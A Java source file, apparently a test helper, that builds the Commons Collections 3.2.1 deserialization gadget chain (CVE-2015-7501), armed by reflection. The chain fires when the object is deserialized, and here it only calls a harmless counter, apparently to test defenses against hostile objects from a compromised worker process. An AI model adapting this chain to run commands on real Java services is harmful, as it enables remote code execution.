package io.heddle.internal.engine.process;

import java.io.Serializable;
import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/// An object that calls a method as soon as it is read: what somebody sends who has taken a worker over
/// and wants its parent.
///
/// Reading a set asks its elements for their hash codes. The one element here is an entry of a map that
/// makes missing values up, by a chain of calls that came with the data. What it calls here only counts.
///
/// ## Source
/// Known since 2015 as CVE-2015-7501 and CVE-2015-6420.
final class Gadget {

    /// How often the chain has run in this process.
    private static final AtomicInteger RUNS = new AtomicInteger();

    private Gadget() {}

    /// Called by the chain.
    public static final class Alarm {
        private Alarm() {}

        /// Counts.
        public static void ring() {
            RUNS.incrementAndGet();
        }
    }

    static int runs() {
        return RUNS.get();
    }

    /// An exception that carries anything.
    static final class Carrier extends RuntimeException {
        private static final long serialVersionUID = 1L;

        final Serializable load;

        Carrier(Serializable load) {
            super("carries something");
            this.load = load;
        }
    }

    @SuppressWarnings("unchecked") // the library knows no generics
    static Serializable make() {
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {});
        Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chain);
        Set<Object> set = new HashSet<>();
        set.add(new TiedMapEntry(lazy, "key")); // asks for the value, which is made up harmlessly
        lazy.remove("key");
        arm(chain);
        return (Serializable) set;
    }

    private static void arm(ChainedTransformer chain) {
        Transformer[] calls = {
            new ConstantTransformer(Alarm.class),
            call(
                    "getMethod",
                    new Class<?>[] {String.class, Class[].class},
                    "ring",
                    new Class<?>[0]),
            call("invoke", new Class<?>[] {Object.class, Object[].class}, null, new Object[0]),
            new ConstantTransformer("value")
        };
        try {
            Field field = ChainedTransformer.class.getDeclaredField("iTransformers");
            field.setAccessible(true);
            field.set(chain, calls);
        } catch (ReflectiveOperationException e) {
            throw new LinkageError("the chain of commons-collections 3.2.1 has this field", e);
        }
    }

    private static Transformer call(String method, Class<?>[] types, Object... arguments) {
        return new InvokerTransformer(method, types, arguments);
    }
}
